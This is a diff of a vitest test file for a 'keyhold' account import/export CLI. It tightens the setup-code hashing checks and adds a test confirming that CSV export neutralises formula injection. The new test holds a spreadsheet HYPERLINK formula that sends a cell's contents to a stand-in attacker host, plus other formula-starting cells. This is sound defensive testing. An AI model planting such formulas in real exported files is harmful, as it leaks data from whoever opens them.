@@ -1,4 +1,3 @@
-import { verifySync } from '@node-rs/argon2'
 import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -30,7 +29,10 @@ interface Issued {
   expiresAt: string
 }
 
-/** The printed code is the one whose Argon2id hash the database keeps (S11), and no password works yet. */
+/**
+ * The printed code is 120 bits, and the database keeps only its keyed hash (issue 15; the key is
+ * sealed in the vault, so the redemption tests check that the two belong together); no password works yet.
+ */
 function expectSetupCode(issued: Issued): void {
   const row = withDatabase(dataDir, (db) =>
     db
@@ -40,8 +42,9 @@ function expectSetupCode(issued: Issued): void {
       )
       .get(issued.username),
   )!
-  expect(row.code_hash).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/)
-  expect(verifySync(row.code_hash, issued.setupCode.replaceAll('-', ''))).toBe(true)
+  expect(issued.setupCode).toMatch(/^[A-Z2-7]{4}(-[A-Z2-7]{4}){5}$/)
+  expect(row.code_hash).toMatch(/^hmac-sha256\$[0-9a-f]{64}$/)
+  expect(row.code_hash).not.toContain(issued.setupCode.replaceAll('-', ''))
   expect(new Date(issued.expiresAt).getTime()).toBe(row.expires_at)
   expect(row.password_hash).toBe('!setup-code-pending')
 }
@@ -69,7 +72,7 @@ describe('keyhold account import: CSV', () => {
     expect(result.skipped).toEqual([])
     expect(result.setupCodes.map((c) => c.username)).toEqual(['bob', 'carol', 'dave', 'erin'])
     for (const issued of result.setupCodes) {
-      expect(issued.setupCode).toMatch(/^[A-Z2-7]{4}-[A-Z2-7]{4}-[A-Z2-7]{4}-[A-Z2-7]{4}$/)
+      expect(issued.setupCode).toMatch(/^[A-Z2-7]{4}(-[A-Z2-7]{4}){5}$/)
       expectSetupCode(issued)
     }
     // Valid 7 days.
@@ -103,7 +106,7 @@ describe('keyhold account import: CSV', () => {
     expect(run.code).toBe(0)
     expect(run.stdout).toMatch(/^Imported 1 account\. Each has a one-time setup code, shown only now and valid until /)
     expect(run.stdout).toMatch(
-      /\nUSERNAME +SETUP CODE +EXPIRES\nfrank +[A-Z2-7]{4}(-[A-Z2-7]{4}){3} +\d{4}-\d\d-\d\d \d\d:\d\d UTC\n$/,
+      /\nUSERNAME +SETUP CODE +EXPIRES\nfrank +[A-Z2-7]{4}(-[A-Z2-7]{4}){5} +\d{4}-\d\d-\d\d \d\d:\d\d UTC\n$/,
     )
   })
 
@@ -276,5 +279,47 @@ describe('keyhold account export', () => {
     expect(okJson(await other(['account', 'show', 'dave', '--json']))).toMatchObject({
       displayName: 'Dave\r\nthe Second',
     })
+  })
+
+  it('S28: neutralises cells that would run as formulas, keeps E.164 phones, and imports them back unchanged', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    const source = [
+      header,
+      `oscar,"${hyperlink.replaceAll('"', '""')}",,+44 20 7946 0959,user`,
+      'pia,@SUM(1+1),-pia@example.org,,user',
+      // As a spreadsheet saves a cell it shows as text: the apostrophe is not part of the name.
+      "quinn,'=1+1,,,user",
+    ].join('\r\n')
+    expect(okJson(await cli(['account', 'import', file('formulas.csv', `${source}\r\n`), '--json']))).toMatchObject({
+      imported: 3,
+    })
+    expect(okJson(await cli(['account', 'show', 'oscar', '--json']))).toMatchObject({ displayName: hyperlink })
+    expect(okJson(await cli(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })
+
+    const csvFile = join(temp.path, 'formulas-out.csv')
+    okJson(await cli(['account', 'export', csvFile, '--json']))
+    const csv = readFileSync(csvFile, 'utf8')
+    expect(csv).toContain(`oscar,"'${hyperlink.replaceAll('"', '""')}",,+442079460959,user\r\n`)
+    expect(csv).toContain("pia,'@SUM(1+1),'-pia@example.org,,user\r\n")
+    expect(csv).toContain("quinn,'=1+1,,,user\r\n")
+    // No cell of the file starts like a formula, unless it is a phone number in E.164.
+    for (const line of csv.split('\r\n')) {
+      for (const cell of line.split(',')) expect(/^"?[=+\-@\t\r]/.test(cell) && !/^\+\d{7,15}$/.test(cell)).toBe(false)
+    }
+
+    const other = cliFor(join(temp.path, 'formulas-other'))
+    expect((await other(['init', '--admin', 'root'], { input: `${strong}\n` })).code).toBe(0)
+    const rows = csv.split('\r\n').filter((line) => /^(oscar|pia|quinn),/.test(line))
+    const back = file('formulas-back.csv', [header, ...rows, ''].join('\r\n'))
+    expect(okJson(await other(['account', 'import', back, '--json']))).toMatchObject({ imported: 3 })
+    expect(okJson(await other(['account', 'show', 'oscar', '--json']))).toMatchObject({
+      displayName: hyperlink,
+      phone: '+442079460959',
+    })
+    expect(okJson(await other(['account', 'show', 'pia', '--json']))).toMatchObject({
+      displayName: '@SUM(1+1)',
+      email: '-pia@example.org',
+    })
+    expect(okJson(await other(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })
   })
 })
